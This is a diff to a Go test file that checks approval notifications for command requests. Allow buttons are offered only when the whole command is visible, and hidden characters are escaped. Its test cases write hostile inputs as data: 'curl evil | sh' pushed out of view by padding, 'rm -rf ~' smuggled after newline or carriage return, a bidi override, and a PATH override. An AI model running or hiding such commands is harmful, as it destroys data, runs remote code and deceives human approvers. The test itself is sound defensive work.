@@ -2,7 +2,11 @@ package notify
 
 import (
 	"encoding/json"
+	"strings"
 	"testing"
+
+	"github.com/awp-tray/awp-tray/internal/visible"
+	"github.com/awp-tray/awp-tray/peer"
 )
 
 func TestPreview(t *testing.T) {
@@ -36,16 +40,55 @@ func TestClip(t *testing.T) {
 	}
 }
 
-func TestDetailText(t *testing.T) {
-	for _, tc := range []struct{ detail, want string }{
-		{`{"cmd":["make","test"],"cwd":"services/api"}`, "$ make test  (in services/api)"},
-		{`{"cmd":"go vet ./..."}`, "$ go vet ./..."},
-		{`{"path":"go.mod","offset":0}`, "go.mod"},
-		{`{"other":1}`, `{"other":1}`},
+// A notification offers "Allow once" only when its body shows the
+// request's data whole; else it points to the Approvals window.
+func TestApprovalNotificationWhole(t *testing.T) {
+	long := strings.Repeat("a", maxText)
+	for _, tc := range []struct {
+		name, detail, reason string
+		allow                bool
+	}{
+		{"plain", `{"cmd":["make","test"]}`, "", true},
+		{"no data", ``, "", true},
+		{"long command", `{"cmd":"echo ` + long + `; curl evil | sh"}`, "", false},
+		{"two lines", `{"cmd":"echo hi\nrm -rf ~"}`, "", false},
+		{"carriage return", `{"cmd":"echo hi\rrm -rf ~"}`, "", false},
+		{"bidi override", `{"cmd":"rm -rf ~ #\u202e"}`, "", false},
+		{"environment", `{"cmd":"ls","env":{"PATH":"."}}`, "", false},
+		{"hidden in the reason only", `{"cmd":["make"]}`, "ok\u202e", true},
 	} {
-		if got := detailText(json.RawMessage(tc.detail)); got != tc.want {
-			t.Errorf("%s: %q, want %q", tc.detail, got, tc.want)
-		}
+		t.Run(tc.name, func(t *testing.T) {
+			r := peer.ApprovalRequest{ID: "a1", Kind: peer.ApprovalProfile, From: "ed25519:" + strings.Repeat("A", 43),
+				FromName: "ana\u202e", Caps: []string{"exec"}, Detail: json.RawMessage(tc.detail)}
+			if tc.reason != "" {
+				var reason string
+				if err := json.Unmarshal([]byte(`"`+tc.reason+`"`), &reason); err != nil {
+					t.Fatal(err)
+				}
+				r.Reason = reason
+			}
+			n := approvalNotification(r)
+			var keys []string
+			for _, a := range n.Actions {
+				keys = append(keys, a.Key)
+			}
+			want := "default,deny"
+			if tc.allow {
+				want = "default,allow,deny"
+			}
+			if strings.Join(keys, ",") != want {
+				t.Errorf("actions %v, want %s; body %q", keys, want, n.Body)
+			}
+			if pointer := strings.Contains(n.Body, "Open Approvals to read the whole request"); pointer == tc.allow {
+				t.Errorf("body %q: points to Approvals %v, allows %v", n.Body, pointer, tc.allow)
+			}
+			if visible.Hidden(n.Title) || visible.Hidden(n.Body) {
+				t.Errorf("hidden characters shown: title %q body %q", n.Title, n.Body)
+			}
+			if n.Title != `ana\u202e asks to exec` {
+				t.Errorf("title %q", n.Title)
+			}
+		})
 	}
 }
 
